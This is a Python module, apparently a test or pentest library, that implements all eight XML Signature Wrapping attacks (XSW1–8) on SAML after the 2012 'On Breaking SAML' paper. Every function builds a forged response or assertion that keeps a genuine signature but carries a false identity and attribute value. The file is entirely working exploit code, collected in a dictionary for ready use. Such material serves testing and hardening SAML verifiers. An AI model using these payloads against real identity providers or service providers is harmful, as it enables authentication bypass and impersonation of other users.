"""XML signature wrapping: eight ways to show a reader something else than what was signed (XSW1–8).

After Somorovsky et al., "On Breaking SAML" (2012). Each takes a signed element and returns one that holds a
genuine signature and a false statement. 1 and 2 are made for a signed response, the others for an assertion.
"""

from __future__ import annotations

from copy import deepcopy

from lxml import etree

DS = "{http://www.w3.org/2000/09/xmldsig#}"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"


def false_copy(element: etree._Element, *, identifier: str | None = "_evil") -> etree._Element:
    """A copy without its signature that names somebody else."""
    copy = deepcopy(element)
    for signature in copy.findall(f"{DS}Signature"):
        copy.remove(signature)
    if identifier is not None:
        copy.set("ID", identifier)
    for value in copy.iter(f"{SAML}AttributeValue"):
        value.text = "key-of-the-mayor"
    return copy


def _taken(element: etree._Element) -> tuple[etree._Element, etree._Element]:
    """The element without its signature, and the signature."""
    original = deepcopy(element)
    signature = original.find(f"{DS}Signature")
    original.remove(signature)
    return original, signature


def xsw1(element):
    """False outside; the signature encloses the true one."""
    original, signature = _taken(element)
    signature.append(original)
    evil = false_copy(element)
    evil.insert(1, signature)
    return evil


def xsw2(element):
    """False outside; the true one stands beside the signature."""
    original, signature = _taken(element)
    evil = false_copy(element)
    evil.insert(1, signature)
    evil.insert(1, original)
    return evil


def xsw3(element):
    """Two side by side, the false one first."""
    return _side_by_side(false_copy(element), deepcopy(element))


def xsw4(element):
    """The false one encloses the true and signed one."""
    evil = false_copy(element)
    evil.append(deepcopy(element))
    return evil


def xsw5(element):
    """The false one carries the signature; the true one without it comes after."""
    original, signature = _taken(element)
    evil = false_copy(element)
    evil.insert(1, signature)
    return _side_by_side(evil, original)


def xsw6(element):
    """The false one carries the signature, and that the true one."""
    original, signature = _taken(element)
    signature.append(original)
    evil = false_copy(element)
    evil.insert(1, signature)
    return evil


def xsw7(element):
    """The false one hides in Extensions under the same id."""
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(false_copy(element, identifier=None))
    return _side_by_side(extensions, deepcopy(element))


def xsw8(element):
    """The true one lies in an Object of the signature of the false one."""
    original, signature = _taken(element)
    etree.SubElement(signature, f"{DS}Object").append(original)
    evil = false_copy(element, identifier=None)
    evil.insert(1, signature)
    return evil


def _side_by_side(*elements: etree._Element) -> list[etree._Element]:
    return list(elements)


ALL = {function.__name__: function for function in (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)}
